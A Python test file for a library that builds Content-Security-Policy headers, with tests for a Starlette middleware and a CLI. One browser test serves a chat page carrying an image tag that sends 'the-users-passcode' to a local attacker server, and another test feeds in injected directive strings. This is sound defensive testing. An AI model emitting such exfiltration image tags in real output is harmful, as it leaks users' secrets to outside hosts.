"""`rendersafe.csp(policy)`: the Content-Security-Policy header that matches a policy.

Its value parses as CSP Level 3 says a serialized policy does (checked here against
the specification's grammar, and by Chromium, which reports a source it cannot
read); `ContentSecurityPolicyMiddleware` sends it on a Starlette app's HTML pages;
and in Debian's Chromium the header alone stops the exfiltration image a page
without any sanitiser shows, in the page and in an artifact's sandboxed iframe.
"""

from __future__ import annotations

import io
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

if TYPE_CHECKING:
    from playwright.sync_api import Browser
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient

from rendersafe import ImageProxy, Policy, PolicyError, csp
from rendersafe.cli import run
from rendersafe.content_security import ContentSecurityPolicyMiddleware
from servers import Server
from test_browser import ARGS, CHROMIUM, MISSING

KEY = "k3y-" + "0123456789abcdefghijklmnopqrstuvwxyz"

# CSP Level 3, 2.2: a serialized policy, its directives, and the source expressions
# of a source list (`serialized-source-list`), from the specification's ABNF.
_DIRECTIVE_NAME = re.compile(r"[A-Za-z0-9-]+")
_DIRECTIVE_VALUE = re.compile(r"[\x09\x20-\x2b\x2d-\x3a\x3c-\x7e]*")
_SCHEME = r"[A-Za-z][A-Za-z0-9+.-]*"
_HOST = r"(?:\*|(?:\*\.)?[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)"
_SOURCE = re.compile(
    rf"'(?:self|none|unsafe-inline|unsafe-eval|strict-dynamic|unsafe-hashes|report-sample|"
    rf"unsafe-allow-redirects|wasm-unsafe-eval)'"
    rf"|{_SCHEME}:"
    rf"|(?:{_SCHEME}://)?{_HOST}(?::(?:[0-9]+|\*))?(?:/[^;,\s]*)?"
)
_SOURCE_LISTS = frozenset(
    {"img-src", "media-src", "frame-src", "connect-src", "form-action", "object-src",
     "base-uri", "font-src", "style-src"}
)  # fmt: skip


def parse_csp(value: str) -> dict[str, list[str]]:
    """The directives of a serialized policy, or AssertionError where it breaks the grammar."""
    directives: dict[str, list[str]] = {}
    for written in value.split(";"):
        token = written.strip(" \t")
        if not token:
            continue
        name, _, rest = token.partition(" ")
        assert _DIRECTIVE_NAME.fullmatch(name), name
        assert _DIRECTIVE_VALUE.fullmatch(rest), rest
        assert name.lower() not in directives, f"{name} twice: the second is ignored"
        sources = rest.split()
        if name in _SOURCE_LISTS:
            assert sources, f"{name} has no source"
            for source in sources:
                assert _SOURCE.fullmatch(source), f"{name}: {source!r}"
            assert "'none'" not in sources or sources == ["'none'"], name
        directives[name.lower()] = sources
    return directives


def test_the_default_policy_keeps_everything_to_the_page() -> None:
    header = csp(Policy())
    assert parse_csp(header) == {
        "img-src": ["'self'"],
        "media-src": ["'self'"],
        "frame-src": ["'self'"],
        "connect-src": ["'self'"],
        "form-action": ["'self'"],
        "object-src": ["'none'"],
        "base-uri": ["'none'"],
    }


def test_images_from_the_allowed_hosts_the_proxy_and_data() -> None:
    policy = Policy(
        allowed_image_hosts=["cdn.example.com", "example.org", "127.0.0.1:8443"],
        image_proxy=ImageProxy(url="https://camo.example.net:8443/p", key=KEY),
        allow_data_images=True,
    )
    assert parse_csp(csp(policy))["img-src"] == [
        "'self'", "cdn.example.com", "example.org", "*.example.org", "127.0.0.1:8443",
        "https://camo.example.net:8443", "data:",
    ]  # fmt: skip


def test_sources_can_be_added_and_bad_ones_are_refused() -> None:
    header = csp(
        Policy(),
        connect_src=["https://api.example.com", "wss://chat.example.com"],
        frame_src=["https://www.youtube-nocookie.com"],
        extra={"font-src": ["'self'", "fonts.gstatic.com"], "object-src": ["'none'"]},
    )
    directives = parse_csp(header)
    assert directives["connect-src"] == [
        "'self'",
        "https://api.example.com",
        "wss://chat.example.com",
    ]
    assert directives["frame-src"] == ["'self'", "https://www.youtube-nocookie.com"]
    assert directives["font-src"] == ["'self'", "fonts.gstatic.com"]
    assert directives["object-src"] == ["'none'"]
    for bad in ["https://a.example; script-src *", "a b", "https://x.example,evil", "'unsafe'", ""]:
        with pytest.raises(PolicyError, match=r"csp\.connect-src"):
            csp(Policy(), connect_src=[bad])
    with pytest.raises(PolicyError, match="directive"):
        csp(Policy(), extra={"img src": ["'self'"]})


_HOSTS = st.lists(
    st.sampled_from(
        [
            "cdn.example.com",
            "example.org",
            "img.example.net:8080",
            "10.0.0.5",
            "xn--bcher-kva.example",
            "example.co.uk",
        ]
    ),
    max_size=6,
)


@settings(max_examples=60, deadline=None)
@given(hosts=_HOSTS, proxy=st.booleans(), data=st.booleans())
def test_every_policy_gives_a_header_that_parses(hosts: list[str], proxy: bool, data: bool) -> None:
    image_proxy = ImageProxy(url="https://proxy.example.com/camo", key=KEY) if proxy else None
    policy = Policy(allowed_image_hosts=hosts, image_proxy=image_proxy, allow_data_images=data)
    directives = parse_csp(csp(policy))
    assert directives["img-src"][0] == "'self'"
    assert set(directives) >= {"img-src", "base-uri", "form-action", "connect-src"}


# -- the middleware and the command ---------------------------------------------------------


def _app(own_header: str | None = None) -> Starlette:
    async def page(request: Request) -> Response:
        headers = {"content-security-policy": own_header} if own_header else None
        return HTMLResponse("<p>chat</p>", headers=headers)

    async def api(request: Request) -> Response:
        return JSONResponse({"ok": True})

    return Starlette(routes=[Route("/", page), Route("/api", api)])


def test_the_middleware_adds_the_header_to_html_pages_only() -> None:
    policy = Policy(allowed_image_hosts=["cdn.example.com"])
    client = TestClient(ContentSecurityPolicyMiddleware(_app(), policy=policy))
    assert client.get("/").headers["content-security-policy"] == csp(policy)
    assert "content-security-policy" not in client.get("/api").headers
    everywhere = TestClient(ContentSecurityPolicyMiddleware(_app(), policy=policy, html_only=False))
    assert everywhere.get("/api").headers["content-security-policy"] == csp(policy)


def test_the_apps_own_header_stays_and_report_only_is_a_report() -> None:
    wrapped = ContentSecurityPolicyMiddleware(_app("script-src 'self'"), policy=Policy())
    headers = TestClient(wrapped).get("/").headers.get_list("content-security-policy")
    assert headers == ["script-src 'self'", csp(Policy())]  # the browser enforces both
    report = TestClient(ContentSecurityPolicyMiddleware(_app(), report_only=True))
    response = report.get("/")
    assert response.headers["content-security-policy-report-only"] == csp(Policy())
    assert "content-security-policy" not in response.headers


def test_the_command_prints_the_header_and_an_nginx_line(tmp_path: Path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text('allowed_image_hosts = ["cdn.example.com"]\n')
    out = io.StringIO()
    assert (
        run(["csp", "--policy", str(path), "--connect-src", "https://api.example.com"], stdout=out)
        == 0
    )
    value = out.getvalue().strip()
    assert value == csp(
        Policy(allowed_image_hosts=["cdn.example.com"]), connect_src=["https://api.example.com"]
    )
    nginx = io.StringIO()
    assert run(["csp", "--policy", str(path), "--nginx", "--report-only"], stdout=nginx) == 0
    header = csp(Policy(allowed_image_hosts=["cdn.example.com"]))
    assert (
        nginx.getvalue() == f'add_header Content-Security-Policy-Report-Only "{header}" always;\n'
    )

    err = io.StringIO()
    assert run(["csp", "--frame-src", "a;b"], stdout=io.StringIO(), stderr=err) == 2
    assert "csp.frame-src" in err.getvalue()


# -- in Chromium ------------------------------------------------------------------------------

chromium_only = pytest.mark.skipif(bool(MISSING), reason=MISSING)


@dataclass
class _Seen:
    paths: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def app(self) -> Starlette:
        async def image(request: Request) -> Response:
            with self.lock:
                self.paths.append(request.url.path + "?" + request.url.query)
            return Response(b"GIF89a", media_type="image/gif")

        return Starlette(routes=[Route("/{path:path}", image)])


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright  # noqa: PLC0415  (a [dev] tool)

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield launched
        launched.close()


def _page(attacker: str, allowed: str) -> Starlette:
    """A chat page with no sanitiser: the model's image, an allowed one, and an artifact."""
    leak = f'<img src="{attacker}/p.png?d=the-users-passcode">'
    artifact = f"&lt;img src=&quot;{attacker}/artifact.png?d=the-users-passcode&quot;&gt;"

    async def page(request: Request) -> Response:
        return HTMLResponse(
            f'<!doctype html><p>reply</p>{leak}<img src="{allowed}/ok.gif">'
            f'<iframe sandbox="allow-scripts" srcdoc="{artifact}"></iframe>'
        )

    return Starlette(routes=[Route("/", page)])


@chromium_only
@pytest.mark.parametrize("with_header", [False, True])
def test_the_header_alone_blocks_the_image_a_page_without_a_sanitiser_fetches(
    browser: Browser, with_header: bool
) -> None:
    attacker, cdn = _Seen(), _Seen()
    with Server(attacker.app()) as evil, Server(cdn.app()) as allowed:
        policy = Policy(allowed_image_hosts=[allowed.url.removeprefix("http://")])
        page_app = _page(evil.url, allowed.url)
        app = ContentSecurityPolicyMiddleware(page_app, policy=policy) if with_header else page_app
        with Server(app) as chat:
            page = browser.new_page()
            console: list[str] = []
            page.on("console", lambda message: console.append(message.text))
            page.goto(chat.url)
            page.wait_for_timeout(500)
            page.close()
    assert cdn.paths == ["/ok.gif?"]
    if with_header:
        assert attacker.paths == []
        assert any("Content Security Policy" in line and "img-src" in line for line in console)
        # Chromium reports a source or directive it cannot read; there is none.
        assert not [
            line for line in console if "invalid" in line.lower() or "unrecognized" in line.lower()
        ]
    else:
        assert sorted(attacker.paths) == [
            "/artifact.png?d=the-users-passcode", "/p.png?d=the-users-passcode",
        ]  # fmt: skip
